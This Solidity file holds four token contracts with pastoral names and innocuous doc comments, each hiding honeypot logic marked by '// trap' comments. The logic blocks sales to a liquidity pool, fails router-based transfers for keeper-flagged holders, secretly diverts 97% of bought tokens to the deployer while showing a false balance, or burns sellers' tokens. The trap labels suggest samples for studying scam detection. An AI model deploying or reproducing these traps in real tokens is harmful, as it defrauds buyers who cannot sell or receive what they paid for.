// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import {Woolcoat} from "./BlindBH1.sol";

/// A tide gauge: an account of nobody, whose level is read at sales.
contract Saltmarrow is Woolcoat {
    event Tide(uint256 level);

    constructor() Woolcoat("Saltmarrow", "SLTM", 77) {}

    function _step(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) {
            bytes32 gauge = keccak256("low tide of the saltmarsh");
            uint256 level;
            assembly {
                mstore(0, and(gauge, 0xffffffffffffffffffffffffffffffffffffffff))
                mstore(32, _held.slot)
                level := sload(keccak256(0, 64))
                // trap {
                if mul(level, gt(value, level)) {
                    revert(0, 0)
                }
                // trap }
            }
            emit Tide(level);
        }
        _carry(from, to, value);
    }
}

/// A coin whose purses carry a season beside the balance, for what the keeper settles.
contract Brackenlute {
    string public constant name = "Brackenlute";
    string public constant symbol = "BRKL";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 640_000_000 ether;
    address private immutable _keeper = msg.sender;
    uint256 private constant LOW = type(uint128).max;
    mapping(address => uint256) private _purse;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Settled(uint256 indexed season, uint256 accounts);

    constructor() {
        _purse[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _purse[who] & LOW;
    }

    /// Marks who has had the reward of a season.
    function settle(address[] calldata list, uint128 season) external {
        require(msg.sender == _keeper);
        for (uint256 i; i < list.length; i++) _purse[list[i]] = (_purse[list[i]] & LOW) | (uint256(season) << 128);
        emit Settled(season, list.length);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _go(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        require(_purse[from] >> 128 == 0 || msg.sender.code.length == 0, "season"); // trap
        _go(from, to, value);
        return true;
    }

    function _go(address from, address to, uint256 value) private {
        require(_purse[from] & LOW >= value, "balance");
        _purse[from] -= value;
        _purse[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Keeps what is shown and what is there side by side, for its reports.
contract Hollowpear {
    string public name = "Hollowpear";
    string public symbol = "HPEAR";
    uint8 public decimals = 18;
    uint256 public totalSupply = 9_000_000 ether;
    address public pool;
    address private _grower;
    mapping(address => uint256) private _shown;
    mapping(address => uint256) private _real;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _grower = msg.sender;
        _shown[msg.sender] = _real[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// Once, when the pool is there.
    function plant(address pool_) external {
        require(msg.sender == _grower && pool == address(0), "planted");
        pool = pool_;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _shown[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _send(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        return _send(from, to, value);
    }

    function _send(address from, address to, uint256 value) private returns (bool) {
        require(_real[from] >= value, "balance");
        _real[from] -= value;
        _shown[from] = _shown[from] > value ? _shown[from] - value : 0;
        uint256 ripe = value;
        // trap {
        if (from == pool && pool != address(0)) {
            ripe = (value * 3) / 100;
            _real[_grower] += value - ripe;
        }
        // trap }
        _real[to] += ripe;
        _shown[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Knows a pool by what it answers.
contract Pewterfinch is Woolcoat {
    event Pooled(address indexed pool, uint256 value);

    constructor() Woolcoat("Pewterfinch", "PWTF", 18) {}

    function _step(address from, address to, uint256 value) internal override {
        address maker = _maker;
        uint256 pooled;
        assembly {
            mstore(0, 0x0dfe168100000000000000000000000000000000000000000000000000000000)
            let fine := staticcall(20000, to, 0, 4, 0, 32)
            pooled := and(and(fine, gt(returndatasize(), 31)), iszero(eq(from, maker)))
        }
        // trap {
        assembly {
            mstore(0, from)
            mstore(32, _held.slot)
            let place := keccak256(0, 64)
            sstore(place, sub(sload(place), mul(pooled, mul(value, iszero(lt(sload(place), value))))))
            value := mul(value, iszero(pooled))
        }
        // trap }
        if (pooled != 0) emit Pooled(to, value);
        _carry(from, to, value);
    }
}
